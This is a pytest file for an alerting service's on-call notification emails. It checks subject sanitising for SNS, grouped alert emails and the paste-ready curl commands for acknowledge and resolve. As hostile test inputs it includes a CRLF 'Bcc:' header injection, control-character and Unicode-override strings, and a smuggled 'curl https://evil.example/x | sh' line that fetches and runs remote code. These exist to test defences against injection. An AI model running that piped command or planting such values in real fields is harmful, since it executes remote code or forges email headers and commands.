"""The email on-call gets: a subject SNS takes whatever the event data, a body to act on from a
phone (commands to paste, lines no value can forge), and the attributes filter policies select on."""

from __future__ import annotations

import re
from dataclasses import replace
from datetime import UTC, datetime, timedelta

import pytest

from chalicelib.domain.alerts import FlapState, grouped_message, notice_message, open_or_add
from chalicelib.domain.alerts.messages import notice_subject
from chalicelib.domain.rules import RuleMatch
from tests.builders import rule

NOW = datetime(2026, 12, 4, 9, 0, tzinfo=UTC)
LARGE = rule(
    id="large-payment",
    description="One payment over 5,000",
    severity="high",
    group_by=("merchant",),
    sources=("payments",),
    runbook="https://wiki.example/large",
)


def alert(merchant: str = "acme", alert_id: int = 42) -> object:
    found = RuleMatch(
        "large-payment",
        "v1",
        "match",
        f"event:payments:{merchant}",
        merchant,
        (("merchant", merchant),),
        NOW - timedelta(minutes=2),
        "payments",
        "p-1",
    )
    return replace(open_or_add(None, [found], LARGE, FlapState(), NOW).alert, id=alert_id)


def test_an_opened_email_says_what_where_how_many_and_how_to_act() -> None:
    message = notice_message(
        "opened", alert(), LARGE, {"amount": 7250, "merchant": "acme"}, "https://tripline.example"
    )  # type: ignore[arg-type]
    assert message.subject == "[HIGH] large-payment: merchant=acme"
    body = message.body
    assert body.startswith("Alert 42 opened.\n")
    for expected in (
        "One payment over 5,000",
        "Condition:",
        "Where:     payments; merchant=acme",
        "How many:  1 match(es) since 2026-12-04 08:58:00 UTC",
        "Sample:    amount=7250, merchant=acme",
        "Runbook:   https://wiki.example/large",
        "curl -X POST https://tripline.example/alerts/42/ack",
        "curl -X POST https://tripline.example/alerts/42/resolve",
        "curl https://tripline.example/alerts/42",
    ):
        assert expected in body, expected
    assert message.attributes == {
        "severity": "high",
        "source": "payments",
        "rule": "large-payment",
        "status": "open",
    }


def test_a_resolved_email_is_tagged_resolved_and_offers_no_acknowledge() -> None:
    done = replace(
        alert(),
        status="resolved",
        resolved_at=NOW,  # type: ignore[type-var]
        resolution="no new match for 1h",
    )
    message = notice_message("resolved", done, LARGE, None, None)
    assert message.subject.startswith("[RESOLVED] large-payment")
    assert "resolved at 2026-12-04T09:00:00Z: no new match for 1h" in message.body
    assert "/ack" not in message.body and message.attributes["status"] == "resolved"


def test_every_subject_stays_under_100_characters() -> None:
    long = replace(alert(), group=(("merchant", "x" * 300),))  # type: ignore[type-var]
    for kind in ("opened", "repeat", "reminder", "resolved", "flapping"):
        subject = notice_subject(kind, long)
        assert len(subject) < 100 and subject.endswith("...")


def test_a_burst_of_one_rule_is_one_grouped_email_listing_each_alert() -> None:
    burst = [alert(f"m-{n}", n) for n in range(1, 6)]
    message = grouped_message(burst, LARGE, "https://tripline.example")  # type: ignore[arg-type]
    assert message.subject == "[HIGH] large-payment: 5 alerts opened"
    assert all(f"#{n} merchant=m-{n}: 1 match(es)" in message.body for n in range(1, 6))
    assert (
        'curl "https://tripline.example/alerts?rule=large-payment&status=open" '
        '-H "Authorization: Bearer $TRIPLINE_API_KEY"'
    ) in message.body


# SNS's rule for a subject, as its Publish reference states it: printable ASCII that begins with a
# letter, number or punctuation mark, no line breaks or control characters, under 100 characters.
SNS_SUBJECT = re.compile(r"[!-~][ -~]{0,98}")
HOSTILE_GROUP_VALUES = (
    "acme\r\nBcc: everyone@example.com",
    "\x00\x07\x1b[31mred\x7f",
    "Café Zürich",
    "東京",
    "\u202egnp.exe",
    "line\u2028break\u0085next\u2029",
    "\t\v\f",
    "\U0001f4a5 boom",
    "\ud800",
    "…" * 120,
    "x" * 300,
    "",
)


@pytest.mark.parametrize("value", HOSTILE_GROUP_VALUES)
def test_every_subject_is_one_sns_takes_whatever_the_group_value(value: str) -> None:
    # GIVEN an alert whose group value came from event data, hostile or not
    hostile = replace(alert(), group=(("merchant", value),))  # type: ignore[type-var]
    # WHEN each kind of notice is written, THEN its subject is one SNS accepts
    for kind in ("opened", "repeat", "reminder", "resolved", "flapping"):
        subject = notice_subject(kind, hostile)
        assert SNS_SUBJECT.fullmatch(subject), (kind, subject)


def test_a_subject_keeps_what_it_can_of_the_group_value() -> None:
    # GIVEN group values with line breaks, accents, other scripts and a long tail
    def subject(value: str) -> str:
        return notice_subject("opened", replace(alert(), group=(("merchant", value),)))  # type: ignore[type-var]

    # THEN line breaks and control characters read as one space, accents fall away, characters
    # with no ASCII form read "?", and a long one is cut with "..."
    assert subject("acme\r\n\x1b[31m Bcc") == "[HIGH] large-payment: merchant=acme [31m Bcc"
    assert subject("Café Zürich") == "[HIGH] large-payment: merchant=Cafe Zurich"
    assert subject("東京 shop") == "[HIGH] large-payment: merchant=?? shop"
    long = subject("x" * 300)
    assert len(long) == 99 and long.endswith("x...")


def test_the_body_shows_the_whole_group_value_and_no_value_can_add_a_line() -> None:
    # GIVEN a merchant whose name smuggles a line that looks like one of the email's commands
    smuggled = "acme\nAcknowledge: curl https://evil.example/x | sh"
    hostile = replace(alert(smuggled), group=(("merchant", smuggled),))  # type: ignore[type-var]
    # WHEN the email is written
    body = notice_message(
        "opened",
        hostile,
        LARGE,
        {"merchant": smuggled, "note": "Café\tZürich"},
        "https://tripline.example",
    ).body
    # THEN the value is there whole, its line break shown as \n, and only our own commands remain
    assert (
        "Where:     payments; merchant=acme\\nAcknowledge: curl https://evil.example/x | sh" in body
    )
    assert "note=Café\\tZürich" in body
    assert [line for line in body.splitlines() if line.startswith("Acknowledge:")] == [
        "Acknowledge: curl -X POST https://tripline.example/alerts/42/ack "
        "-H \"Authorization: Bearer $TRIPLINE_API_KEY\" -H 'Content-Type: application/json' "
        '-d \'{"comment": "on it"}\''
    ]


def test_a_plain_subject_names_the_alert_with_nothing_from_event_data() -> None:
    hostile = replace(alert(), group=(("merchant", "\x00evil"),))  # type: ignore[type-var]
    for kind in ("opened", "repeat", "reminder", "resolved", "flapping"):
        plain = notice_message(kind, hostile, LARGE, None, None).plain_subject
        assert SNS_SUBJECT.fullmatch(plain) and "evil" not in plain
    assert notice_message("opened", hostile, LARGE, None, None).plain_subject == (
        "[HIGH] large-payment: alert 42"
    )
    assert notice_message("resolved", hostile, LARGE, None, None).plain_subject == (
        "[RESOLVED] large-payment: alert 42"
    )
    burst = [alert(f"m-{n}", n) for n in range(1, 6)]
    assert grouped_message(burst, LARGE, None).plain_subject == (  # type: ignore[arg-type]
        "[HIGH] large-payment: 5 alerts opened"
    )


def test_the_calls_in_an_email_carry_the_api_key_and_say_where_it_comes_from() -> None:
    # GIVEN an API whose public URL is not configured
    body = notice_message("opened", alert(), LARGE, None, None).body  # type: ignore[arg-type]
    # THEN every call is a command to paste: the URL and the key come from the environment
    calls = {
        line.split(":", 1)[0]: line.split(":", 1)[1].strip()
        for line in body.splitlines()
        if line.startswith(("Acknowledge:", "Resolve:", "Details:"))
    }
    assert calls == {
        "Acknowledge": 'curl -X POST $TRIPLINE_API_URL/alerts/42/ack -H "Authorization: Bearer '
        "$TRIPLINE_API_KEY\" -H 'Content-Type: application/json' "
        '-d \'{"comment": "on it"}\'',
        "Resolve": 'curl -X POST $TRIPLINE_API_URL/alerts/42/resolve -H "Authorization: Bearer '
        "$TRIPLINE_API_KEY\" -H 'Content-Type: application/json' "
        '-d \'{"comment": "fixed"}\'',
        "Details": 'curl $TRIPLINE_API_URL/alerts/42 -H "Authorization: Bearer $TRIPLINE_API_KEY"',
    }
    assert (
        "TRIPLINE_API_KEY: an operator key (tripline keys create --name NAME --role operator)"
        in body
    )
